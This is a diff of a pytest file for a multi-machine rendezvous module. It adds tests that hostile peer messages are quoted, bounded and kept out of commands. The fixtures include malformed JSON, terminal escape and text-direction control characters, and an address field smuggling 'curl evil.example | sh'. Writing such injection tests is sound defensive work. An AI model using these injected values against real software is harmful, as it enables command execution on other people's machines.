@@ -106,9 +106,40 @@ def test_a_closed_door_ends_the_rendezvous_on_all(monkeypatch):
         assert "known on its own machine only" in refusal.problems[0].found
 
 
-@pytest.mark.parametrize("text", ["[]", "no json", "{}", '[{"found": "x"}]', "[1]"])
+STRANGE = [
+    *("[]", "no json", "{}", '[{"found": "x"}]', "[1]", "[" * 100_000, '["\\ud800"]'),
+    '[{"found": "x", "fix": "y", "where": "", "level": "odd", "topic": "z"}]',
+    '[{"found": "x", "fix": "", "where": "", "level": "failure", "topic": "z"}]',
+    '[{"found": "x", "fix": ["y"], "where": "", "level": "failure", "topic": "z"}]',
+]
+
+
+@pytest.mark.parametrize("text", STRANGE, ids=range(len(STRANGE)))
 def test_what_strangers_write_as_a_verdict_is_one_message(text):
     assert "another rank has ended the rendezvous" in str(module._verdict(text))
+
+
+def test_a_verdict_is_quoted_and_bounded():
+    sent = {"found": "x\n\x1b[1mrun this\u202e" * 1000, "fix": "y\n  fix: z", "where": "a\nb"}
+    message = str(module._verdict(json.dumps([{**sent, "level": "failure", "topic": "t"}])))
+    first, second = message.splitlines()
+    assert first.startswith('another rank: "x run thisx run this') and len(first) < 900
+    assert second == '  fix: "y fix: z"' and "\x1b" not in message and "\u202e" not in message
+
+
+@pytest.mark.parametrize(
+    "sent",
+    [
+        *({}, {"port": 99999, "address": "10.0.0.1; curl evil.example | sh"}, {"port": True}),
+        *({"port": "x", "address": "fe80::1%a;b"}, {"port": -1, "address": "a" * 300 + "."}),
+    ],
+    ids=range(5),
+)
+def test_a_hello_of_a_stranger_becomes_no_part_of_a_command(sent):
+    hello = module._hello_of(sent)
+    assert hello["address"] is None and hello["port"] == 0
+    hellos = [{"host": "anna", "address": None}, {"host": "berta", **hello}]
+    assert "evil" not in str(module._closed_route(hellos, 0, 1, addresses.FILTERED))
 
 
 def test_facts_of_strangers_are_no_facts():
